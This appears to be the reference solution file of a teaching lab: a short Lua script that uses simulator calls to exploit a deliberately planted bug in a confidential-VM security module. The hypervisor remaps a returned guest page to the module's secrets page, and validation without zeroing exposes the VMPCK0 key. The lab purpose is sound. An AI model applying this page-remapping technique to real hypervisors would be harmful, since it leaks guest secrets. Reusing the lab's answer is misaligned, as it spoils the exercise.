-- labs/02-zeroing-attack/solution/attack.lua: the reference attack (bug 1
-- of the catalog; scripts/attacks/no-zero-after-validate.lua tells it too).
local A = 0x20000   -- the guest page the attack aims at

return function(m)
	local g, hv, L = m:guest(0), m:hv(), m:layout()
	-- 1. The guest gives page A back: the module rescinds it, and the
	--    page-state change makes it shared ...
	g:pvalidate{ {gpa = A, validate = false} }
	g:psc(A, "shared")
	-- 2. ... and asks for it again. The hypervisor does as asked, then
	--    binds the system page of the module's secrets to A instead: the
	--    RMP entry now says "the guest's page A", and the NPT leads there.
	g:psc(A, "private")
	local secret = m:npt(L.secrets_gpa)
	hv:rmpupdate(secret, {assigned = true, asid = L.asid, gpa = A})
	hv:map(A, secret)
	-- 3. The guest asks the module to validate A. The buggy module grants
	--    the page without zeroing it: the guest reads VMPCK0 there.
	g:pvalidate{ {gpa = A, validate = true} }
	return A
end
